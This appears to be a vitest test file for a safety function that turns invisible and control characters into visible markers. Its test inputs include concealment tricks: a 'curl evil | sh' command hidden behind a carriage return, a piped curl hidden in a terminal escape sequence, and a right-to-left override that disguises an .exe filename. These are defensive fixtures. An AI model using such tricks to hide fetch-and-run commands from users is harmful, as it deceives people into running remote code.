import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { invisibleMarker, visibleFormatCharacters, visibleText } from '../../src/safety/visible-text.js'

// Characters a client draws as nothing, or acts on.
const INVISIBLE =
  /[\0-\x08\v\f\x0e-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb]|\r(?!\n)|\udb40[\udc00-\udc7f]/

describe('visibleText: every invisible character becomes a marker that names it', () => {
  it.each([
    ['ls\u001b]0;curl x | sh\u0007', 'ls␛]0;curl x | sh␇'],
    ['\u001b[8mhidden\u001b[0m', '␛[8mhidden␛[0m'],
    ['echo safe\rcurl evil | sh', 'echo safe␍curl evil | sh'],
    ['a\r\nb\tc\nd', 'a\r\nb\tc\nd'],
    ['nul\u0000 del\u007f', 'nul␀ del␡'],
    ['csi\u009b2J', 'csi<U+009B>2J'],
    ['file\u202etxt.exe', 'file<U+202E>txt.exe'],
    ['\u2066isolate\u2069', '<U+2066>isolate<U+2069>'],
    ['zero\u200bwidth\u200d\ufeff\u2060\u00ad', 'zero<U+200B>width<U+200D><U+FEFF><U+2060><U+00AD>'],
    ['tag\udb40\udc41', 'tag<U+E0041>'],
  ])('%j shows as %j', (text, shown) => {
    expect(visibleText(text)).toBe(shown)
  })

  it('returns the same string when there is nothing to mark', () => {
    const text = 'src/a.ts ünïcödé 文档 🙂 👨‍'.slice(0, 22)
    expect(visibleText(text)).toBe(text)
  })

  it('leaves nothing invisible, drops nothing, and is idempotent, for any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const shown = visibleText(text)
        expect(shown).not.toMatch(INVISIBLE)
        expect(visibleText(shown)).toBe(shown)
        // Every character is kept or replaced by its marker, in order.
        expect(shown).toBe(
          Array.from(text, (char) => (INVISIBLE.test(char) && char !== '\r' ? invisibleMarker(char) : char))
            .join('')
            .replace(/\r(?!\n)/g, '␍'),
        )
      }),
    )
  })
})

describe('visibleFormatCharacters: only bidi and zero-width characters, for a renderer with its own control markers', () => {
  it('marks bidi controls and zero-width characters and keeps control characters', () => {
    expect(visibleFormatCharacters('a\u202eb\u200b\u001b[31m')).toBe('a<U+202E>b<U+200B>\u001b[31m')
  })
})
